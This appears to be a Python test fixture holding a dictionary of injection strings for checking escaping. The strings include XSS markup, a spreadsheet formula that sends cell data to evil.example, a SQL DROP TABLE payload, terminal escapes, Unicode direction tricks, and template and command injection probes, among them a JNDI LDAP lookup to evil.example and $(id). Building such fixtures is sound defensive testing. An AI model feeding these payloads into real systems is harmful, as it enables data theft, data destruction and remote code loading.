"""Strings that become more than strings where somebody forgets to escape them."""

from __future__ import annotations

NASTY = {
    "markup": "\"><script>alert(1)</script><img src=x onerror='alert(2)'>&#60;b&gt;]]><!--",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Kontakt")',
    "database": "'; DROP TABLE contacts; -- \" OR 1=1",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mrot\x9b31m\x08\x08\x7f\r\nline",
    "console markup": "[bold red]rot[/] [link=http://evil.example]hier[/link] [/nothing]",
    "zero bytes": "vor\x00nach\x00",
    "direction": "\u202efdp.exe\u202c \u2066innen\u2069 \u200b\ufeff\u2028Zeile\u2029",
    "half a character": "halb \ud800 und \udfff",
    "template": "{{ 7*7 }} ${jndi:ldap://evil.example/a} %(x)s %n {0.__class__} `id` $(id)",
    "pipes": "| a | b |\n| --- | --- |\n```\n# Kein Titel\n<!-- page 9 -->",
}
"""By what they try to be."""
